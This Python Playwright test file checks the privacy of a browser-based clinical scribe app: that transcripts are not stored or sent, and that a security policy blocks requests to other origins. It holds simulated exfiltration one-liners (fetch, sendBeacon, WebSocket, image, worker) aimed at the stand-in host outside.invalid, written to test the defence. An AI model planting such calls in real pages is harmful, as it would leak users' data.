"""Nothing of a visit leaves the page or stays on the machine."""

from pathlib import Path

from playwright.sync_api import Page, Playwright, expect

from tests.support.browser import launch
from tests.support.build import exported_site
from tests.support.network import foreign, read_log
from tests.support.scribe_page import READY_MS, ScribePage
from tests.support.server import Altered, StaticServer
from tests.support.serving import app_serve

PHRASE = "zanzibarite nephrolith"
STORED = """async () => {
  const texts = [JSON.stringify({ ...localStorage }), document.cookie];
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      texts.push(request.url);
      const type = (await cache.match(request)).headers.get('content-type') ?? '';
      if (/text|json/.test(type)) texts.push(await (await cache.match(request)).text());
    }
  }
  texts.push(JSON.stringify(await indexedDB.databases()));
  return { text: texts.join('\\n'), databases: (await indexedDB.databases()).length };
}"""


def test_a_transcript_is_neither_sent_nor_stored(playwright: Playwright, tmp_path: Path):
    log = tmp_path / "network.json"
    with app_serve(exported_site("tiny")) as url:
        with launch(playwright, net_log=log) as browser:
            page = browser.new_page()
            scribe = ScribePage(page).open(f"{url}?tokens=8")
            scribe.transcript.fill(f"[patient] They found a {PHRASE} last year.")
            scribe.generate.click()
            assert all(scribe.wait_for_note().values())
            found = page.evaluate(STORED)
        requests = read_log(log)
    assert found["databases"] == 0
    assert PHRASE not in found["text"]
    assert {request.method for request in requests if request.by_page} == {"GET"}
    for word in PHRASE.split():
        assert word not in log.read_text()


def test_a_new_tab_knows_nothing_of_the_visit(playwright: Playwright):
    """The draft outlives a reload, in storage that ends with its tab."""
    with app_serve(exported_site("tiny")) as url, launch(playwright) as browser:
        context = browser.new_context()
        first = ScribePage(context.new_page()).open(url)
        first.transcript.fill(PHRASE)
        first.page.reload()
        assert first.transcript.input_value() == PHRASE
        second = ScribePage(context.new_page()).open(url)
        assert second.transcript.input_value() == ""


OUTSIDE = "outside.invalid"
# One attempt of each kind to reach another origin; none may stop the others.
ATTEMPTS = {
    "fetch": "fetch('http://outside.invalid/fetch')",
    "beacon": "navigator.sendBeacon('http://outside.invalid/beacon', 'visit')",
    "socket": "new WebSocket('ws://outside.invalid/socket')",
    "image": "Object.assign(new Image(), { src: 'http://outside.invalid/image' })",
    "worker": "new Worker(URL.createObjectURL(new Blob(["
    "\"fetch('http://outside.invalid/worker').catch(() => 0)\"])))",
}


def attempt_all(page: Page) -> None:
    """Tries each kind from the page, as a script that slipped into it would."""
    for code in ATTEMPTS.values():
        guarded = f"try {{ void Promise.resolve({code}).catch(() => 0); }} catch {{}}"
        page.evaluate(f"() => {{ {guarded} }}")
    page.wait_for_timeout(1000)


def outside(log: Path, url: str) -> set[str]:
    """Paths of other origins that the browser started to ask for on a page's behalf."""
    asked = [request.url for request in read_log(log) if request.by_page]
    return {address.rsplit("/", 1)[1] for address in foreign(asked, url)}


def test_the_guard_sees_each_kind_of_request(playwright: Playwright, tmp_path: Path):
    """Without the policy every attempt goes out, and the log that the tests read shows it."""
    log = tmp_path / "network.json"
    with StaticServer(exported_site("tiny")) as server:
        server.faults[r"^/$"] = Altered(lambda body: body.replace(b"Content-Security-Policy", b"x"))
        with launch(playwright, net_log=log) as browser:
            page = browser.new_context(service_workers="block").new_page()
            page.goto(server.url)
            attempt_all(page)
        assert outside(log, server.url) == set(ATTEMPTS)


def test_the_policy_refuses_each_kind_of_request(playwright: Playwright, tmp_path: Path):
    """And the privacy panel tells of the attempts."""
    log = tmp_path / "network.json"
    with app_serve(exported_site("tiny")) as url:
        with launch(playwright, net_log=log) as browser:
            page = browser.new_page()
            complaints: list[str] = []
            page.on("console", lambda message: complaints.append(message.text))
            ScribePage(page).open(url)
            assert complaints == [], "the browser does not understand a header"
            assert page.evaluate("typeof RTCPeerConnection") == "undefined"
            attempt_all(page)
            page.get_by_role("button", name="Privacy", exact=True).click()
            refused = page.get_by_role("row", name="Attempts that the browser refused")
            expect(refused.get_by_role("cell")).to_have_text(str(len(ATTEMPTS)))
            expect(page.get_by_role("dialog")).to_contain_text(OUTSIDE)
            others = page.get_by_role("row", name="Requests to any other address")
            expect(others.get_by_role("cell")).to_have_text("0")
        assert outside(log, url) == set()


def test_a_whole_visit_asks_nobody_else(playwright: Playwright, tmp_path: Path):
    """From the first load to the exported file: every request goes to the page's own origin."""
    log = tmp_path / "network.json"
    with app_serve(exported_site("tiny")) as url:
        with launch(playwright, net_log=log) as browser:
            page = browser.new_page()
            scribe = ScribePage(page).open(f"{url}?tokens=8")
            scribe.sample.select_option(label="Orthopaedics: knee injury")
            scribe.generate.click()
            scribe.wait_for_note()
            page.get_by_role("button", name="Export", exact=True).click()
            with page.expect_download(timeout=READY_MS) as download:
                page.get_by_role("button", name="Word document").click()
                decide(page)
            assert download.value.suggested_filename.endswith(".docx")
            page.reload()
            scribe.wait_until_ready()
        asked = [request.url for request in read_log(log) if request.by_page]
        assert any("/models/" in address for address in asked), "the worker's requests are missed"
        assert foreign(asked, url) == []


def decide(page: Page) -> None:
    """Keeps each marked line, if there are any."""
    keep = page.get_by_role("button", name="Keep as it is")
    for _ in range(100):
        if page.get_by_role("dialog").count() == 0:
            return
        if keep.count():
            keep.first.click(timeout=5000)
        page.wait_for_timeout(50)


def test_the_privacy_panel_tells_what_left_and_what_is_stored(page: Page):
    with app_serve(exported_site("tiny")) as url:
        scribe = ScribePage(page).open(url)
        scribe.transcript.fill(PHRASE)
        page.wait_for_function("() => navigator.serviceWorker.controller", timeout=READY_MS)
        page.get_by_role("button", name="Privacy", exact=True).click()
        panel = page.get_by_role("dialog", name="What leaves this page: nothing")
        others = panel.get_by_role("row", name="Requests to any other address")
        expect(others.get_by_role("cell")).to_have_text("0")
        model = panel.get_by_role("row", name="Files of the model").get_by_role("cell")
        assert int(model.inner_text()) >= 7
        for sentence in (
            "files of this page and of models",
            "No visits: none are kept",
            "The open visit",
            "No cookies and nothing in the local storage",
            "both work without a network",
            "A forced reload",
            "connect-src 'self'",
            "isolated from other pages (COOP and COEP)",
        ):
            expect(panel).to_contain_text(sentence)
        page.keyboard.press("Escape")
        expect(panel).to_be_hidden()
